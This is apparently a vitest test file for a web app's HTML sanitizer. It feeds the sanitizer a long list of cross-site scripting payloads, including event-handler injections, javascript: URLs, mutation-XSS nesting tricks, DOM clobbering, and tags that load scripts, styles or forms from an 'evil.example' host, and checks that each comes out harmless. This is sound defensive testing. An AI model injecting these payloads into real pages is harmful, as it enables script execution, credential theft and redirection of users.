import fc from 'fast-check'
import { afterEach, describe, expect, it } from 'vitest'
import { sanitize } from '../../../src/components/sanitize.ts'

declare global {
  interface Window {
    ran?: boolean
  }
}

afterEach(() => {
  delete window.ran
  document.body.replaceChildren()
})

/** Puts sanitized HTML into the page, as the app does. Returns it as text. */
function shown(html: string): string {
  const place = document.createElement('div')
  document.body.replaceChildren(place)
  place.replaceChildren(sanitize(html, false).content)
  return place.innerHTML
}

const BAD_TAGS =
  'script,style,link,meta,base,iframe,frame,object,embed,form,input,button,select,textarea,svg,math,template,noscript,video,audio,source,slot,dialog,title,h1'
const GOOD_ATTRIBUTES = new Set(
  'href src alt width height colspan rowspan start dir target rel loading'.split(' '),
)
const GOOD_ADDRESS = /^(?:https:|http:\/\/(?:localhost|127\.0\.0\.1)[:/]|tel:|mailto:|\/uploads\/)/

/** Returns what the page contains but must not. */
function dangers(html: string): string[] {
  const left = shown(html)
  const bad = [...document.body.querySelectorAll('*')].filter((element) => {
    const address = element.getAttribute('href') ?? element.getAttribute('src') ?? 'https:'
    const opens = element.hasAttribute('href') && element.getAttribute('rel') !== 'noopener noreferrer'
    const attributes = element.getAttributeNames().filter((name) => !GOOD_ATTRIBUTES.has(name))
    return element.matches(BAD_TAGS) || attributes.length > 0 || !GOOD_ADDRESS.test(address) || opens
  })
  return [...bad.map((element) => element.outerHTML), ...(window.ran ? [`ran: ${left}`] : [])]
}

const PAYLOADS = [
  '<script>ran=true</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror="ran=true">',
  '<img src="/uploads/none.png" onerror=ran=true>',
  '<p onclick="ran=true" onpointerover=ran=true tabindex=1 autofocus onfocus=ran=true>x</p>',
  '<details open ontoggle=ran=true><summary>x</summary></details>',
  '<a href="javascript:ran=true">x</a>',
  '<a href=" &#106;avascript:ran=true">x</a>',
  '<a href="java\tscript:ran=true">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>ran=true</script>">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="http://pay.example/">x</a>',
  '<a href="//evil.example/" target="_self" rel="opener">x</a>',
  '<img src="data:image/svg+xml,<svg onload=ran=true>">',
  '<img src="http://tracker.example/x.gif">',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<svg onload=ran=true><script>ran=true</script><animate onbegin=ran=true attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:ran=true"><text y=20>x</text></a></svg>',
  '<math href="javascript:ran=true"><mtext>x</mtext></math>',
  '<form action="https://evil.example/"><input name=password><button formaction="javascript:ran=true">x</button></form>',
  '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.ran=true</script>"></iframe>',
  '<object data="javascript:ran=true"></object><embed src="javascript:ran=true">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/">',
  '<p id=root name=body class=fixed data-x=1 aria-label=y>x</p>',
  '<form id=attributes><input name=attributes><input name=nodeName></form>',
  '<img name=cookie src="https://pics.example/a.png"><a id=getElementById href="https://x.example/">x</a>',
  '<template><img src=x onerror=ran=true></template>',
  '<div><template shadowrootmode=open><script>ran=true</script></template></div>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=true&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=true>',
  '<svg></p><style><a id="</style><img src=1 onerror=ran=true>">',
  '<noscript><p title="</noscript><img src=x onerror=ran=true>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran=true></style></annotation-xml></math>',
  '<table><td><svg><foreignObject><p><img src=x onerror=ran=true></svg></table>',
  '<textarea><img title="</textarea><img src=x onerror=ran=true>"></textarea>',
  '<!--><img src=x onerror=ran=true>--><![CDATA[<img src=x onerror=ran=true>]]>',
  '<x-button is="x" onclick=ran=true>x</x-button>',
  '<scr<script>ipt>ran=true</scr</script>ipt>',
  `${'<div>'.repeat(600)}<img src=x onerror=ran=true>`,
]

describe('sanitize', () => {
  it.each(PAYLOADS)('removes the danger from %s', (html) => {
    expect(dangers(html)).toEqual([])
  })

  it('leaves nothing dangerous in any mixture of these', () => {
    const pieces = PAYLOADS.slice(0, -1).flatMap((payload) => payload.split(/(?=[<>"])/))
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (mixed) => {
        expect(dangers(mixed.join(''))).toEqual([])
      }),
      { numRuns: 300 },
    )
  })

  it.each([
    ['x.example', true],
    [' https://X.example/a ', true],
    ['see x.example', false],
    ['https://x.example.org', false],
    ['https://other.example/x.example', false],
    ['y@x.example', false],
  ])('names the host of a link unless its text is its address: %s', (text, isOwn) => {
    const link = `<a href="https://x.example/" target="_blank" rel="noopener noreferrer">${text}`
    expect(shown(`<a href="https://x.example">${text}</a>`)).toBe(`${link}${isOwn ? '' : ' (x.example)'}</a>`)
  })

  it.each([
    [
      'words and lists',
      '<h2>A</h2><p>b <strong>c</strong></p><ul><li>d</li></ul>',
      '<h2>A</h2><p>b <strong>c</strong></p><ul><li>d</li></ul>',
    ],
    [
      'a table',
      '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
      '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    ],
    ['the words of what goes', '<section><font color=red>a</font></section>', 'a'],
    ['a first heading, one lower', '<h1>A <em>b</em></h1>', '<h2>A <em>b</em></h2>'],
    [
      'a link, in a window of its own',
      '<a href="https://x.example">x</a>',
      '<a href="https://x.example/" target="_blank" rel="noopener noreferrer">x (x.example)</a>',
    ],
    [
      'a number to call',
      '<a href="tel:+62123">x</a>',
      '<a href="tel:+62123" target="_blank" rel="noopener noreferrer">x</a>',
    ],
    ['the words of a link that leads nowhere good', '<a href="/deposit">x</a>', '<a>x</a>'],
    [
      'a picture',
      '<img src="https://p.example/a.png" width="4">',
      '<img src="https://p.example/a.png" width="4" loading="lazy" alt="">',
    ],
    [
      "the operator's own picture",
      '<img alt="a" src="/uploads/a.png">',
      `<img alt="a" src="/uploads/a.png" loading="lazy">`,
    ],
    [
      'the host of a link that hides another address in text that goes',
      '<a href="https://evil.example"><title>evil.example/</title>bank.com</a>',
      '<a href="https://evil.example/" target="_blank" rel="noopener noreferrer">bank.com (evil.example)</a>',
    ],
    [
      'a picture whose address looks like an event handler',
      '<img src="https://p.example/image/onerror=redirect/a.png" onerror="x">',
      '<img src="https://p.example/image/onerror=redirect/a.png" loading="lazy" alt="">',
    ],
    ['plain text', 'a < b & c', 'a &lt; b &amp; c'],
    ['nothing', '', ''],
  ])('keeps %s', (_, html, clean) => {
    expect(shown(html)).toBe(clean)
  })

  it.each([
    ['a picture', '<h1><img src="/uploads/a.png"></h1>', '', true],
    ['the words of a picture', '<p>a <img src="https://p.example/b.png" alt="b"></p>', 'a b', true],
    ['no picture', '<p>a</p>', 'a', false],
    ['a picture that is never shown', '<img src="http://p.example/a.png">', '', false],
  ])('reports with data saver on whether it left out pictures: %s', (_, html, text, isReported) => {
    const { content, omitsPictures } = sanitize(html, true)
    expect(content.querySelector('img')).toBeNull()
    expect(content.textContent).toBe(text)
    expect(omitsPictures).toBe(isReported)
  })
})

// Red when unclosed markup takes quadratic time: minutes for these.
it.each(['<a ', '<a "', "<a x='", '<style', '<a onx ', '</style '])(
  'sanitizes half a megabyte of %j without delay',
  (piece) => {
    expect(shown(piece.repeat(500_000 / piece.length))).not.toContain('<')
  },
)
